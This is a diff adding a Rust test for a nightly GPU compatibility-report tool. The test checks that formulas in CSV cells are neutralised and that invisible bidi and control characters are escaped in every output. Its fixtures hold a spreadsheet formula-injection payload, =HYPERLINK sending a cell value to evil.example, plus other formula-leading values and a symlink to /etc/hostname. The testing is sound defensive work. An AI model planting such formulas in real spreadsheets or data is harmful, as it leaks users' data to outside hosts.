@@ -1058,3 +1058,141 @@ fn report_never_reads_a_log_through_a_symbolic_link() {
         }
     }
 }
+
+/// A formula in a matrix value and in a fingerprint, for a spreadsheet to run.
+const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"open\")";
+/// Right-to-left override, zero-width space, an isolate, BEL and a C1 control.
+const INVISIBLE: &str = "\u{202e}\u{200b}\u{2066}\u{7}\u{85}";
+
+/// Tonight's run plus a cell whose value, id, reason, fingerprint and log carry formulas and
+/// invisible characters; returns (sandbox, last night, tonight, the hostile cell's id).
+fn nightlies_with_invisible_text() -> (Sandbox, PathBuf, PathBuf, String) {
+    let (sandbox, last, tonight_dir) = nightlies();
+    let mut records = tonight();
+    let mut r = rec(
+        "0.6.3",
+        "sm_90",
+        FORMULA,
+        Status::Fail,
+        Some(Signature::Oom),
+    );
+    r.id = format!("rtl{INVISIBLE}cell");
+    r.log = "logs/rtl.log".to_owned();
+    r.line = Some(2);
+    r.reason = Some(format!("reason{INVISIBLE}end"));
+    r.fingerprint = Some(format!("-2+3 {INVISIBLE}"));
+    r.values
+        .insert("note".into(), json!(format!("@SUM(1){INVISIBLE}")));
+    records.push(r.clone());
+    write_run(&tonight_dir, "2026-11-21T02:00:00Z", &records);
+    std::fs::write(
+        tonight_dir.join("logs/rtl.log"),
+        format!("start\nCUDA out of memory {INVISIBLE} gpj.exe\nend\n"),
+    )
+    .unwrap();
+    (sandbox, last, tonight_dir, r.id)
+}
+
+/// Invisible characters from logs, values and ids are shown as `\u{...}` in every output, and
+/// CSV cells that a spreadsheet would run as formulas are text; compat.json keeps the data.
+#[test]
+fn outputs_show_invisible_characters_and_neutralise_formulas() {
+    let (sandbox, last, tonight_dir, hostile) = nightlies_with_invisible_text();
+    let out = sandbox.path().join("report");
+    let output = report(&[&last, &tonight_dir], &out, &[]);
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(output.status.code(), Some(0), "{stderr}");
+    let invisible = |text: &str| {
+        text.chars().find(|c| {
+            (c.is_control() && !matches!(c, '\n' | '\t' | '\r')) || INVISIBLE.contains(*c)
+        })
+    };
+    let ctx = build_context(
+        &[last.clone(), tonight_dir.clone()],
+        &out,
+        &ReportOptions::default(),
+    )
+    .unwrap();
+    let page = ctx
+        .cells
+        .iter()
+        .find(|c| c.id == hostile)
+        .unwrap()
+        .page
+        .clone();
+    // (output, text that shows the override)
+    let shown: [(&str, &str); 5] = [
+        ("index.html", r"rtl\u{202e}\u{200b}\u{2066}\u{7}\u{85}cell"),
+        (
+            &page,
+            r"CUDA out of memory \u{202e}\u{200b}\u{2066}\u{7}\u{85} gpj.exe",
+        ),
+        (
+            "compat.md",
+            r"rtl\\u\{202e\}\\u\{200b\}\\u\{2066\}\\u\{7\}\\u\{85\}cell",
+        ),
+        (
+            "compat.csv",
+            r"reason\u{202e}\u{200b}\u{2066}\u{7}\u{85}end",
+        ),
+        ("junit.xml", r"rtl\u{202e}\u{200b}\u{2066}\u{7}\u{85}cell"),
+    ];
+    for (file, expected) in shown {
+        let text = read(&out.join(file));
+        assert_eq!(
+            invisible(&text),
+            None,
+            "{file} carries an invisible character"
+        );
+        assert!(text.contains(expected), "{file} lacks {expected}:\n{text}");
+    }
+    for (path, text) in all_text(&out.join("plots")) {
+        assert_eq!(invisible(&text), None, "{}", path.display());
+    }
+
+    // CSV: formulas are text; the same cells in compat.json are the data as recorded.
+    let mut csv = csv::Reader::from_path(out.join("compat.csv")).unwrap();
+    let header = csv.headers().unwrap().clone();
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let row = csv
+        .records()
+        .map(Result::unwrap)
+        .find(|r| r[0].starts_with("rtl"))
+        .expect("the hostile row");
+    for (name, expected) in [
+        ("model", format!("'{FORMULA}")),
+        (
+            "note",
+            r"'@SUM(1)\u{202e}\u{200b}\u{2066}\u{7}\u{85}".to_owned(),
+        ),
+        (
+            "fingerprint",
+            r"'-2+3 \u{202e}\u{200b}\u{2066}\u{7}\u{85}".to_owned(),
+        ),
+        ("duration_s", "61.5".to_owned()),
+    ] {
+        assert_eq!(row[column(name)], expected, "csv column {name}");
+    }
+    let json: Value = serde_json::from_str(&read(&out.join("compat.json"))).unwrap();
+    let cell = json["cells"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|c| c["id"] == hostile.as_str())
+        .expect("the hostile cell in compat.json");
+    assert_eq!(cell["values"][2]["value"], FORMULA, "{cell}");
+    assert_eq!(cell["reason"], format!("reason{INVISIBLE}end"));
+
+    // The terminal: compare's table and Markdown, report's warnings.
+    for format in ["table", "md"] {
+        let (_, text) = compare(&last, &tonight_dir, format);
+        assert_eq!(invisible(&text), None, "compare --format {format}");
+        assert!(text.contains("202e"), "compare --format {format}:\n{text}");
+    }
+    std::fs::remove_file(tonight_dir.join("logs/rtl.log")).unwrap();
+    std::os::unix::fs::symlink("/etc/hostname", tonight_dir.join("logs/rtl.log")).unwrap();
+    let output = report(&[&last, &tonight_dir], &out, &[]);
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(invisible(&stderr), None, "{stderr}");
+    assert!(stderr.contains(r"cell `rtl\u{202e}"), "{stderr}");
+}
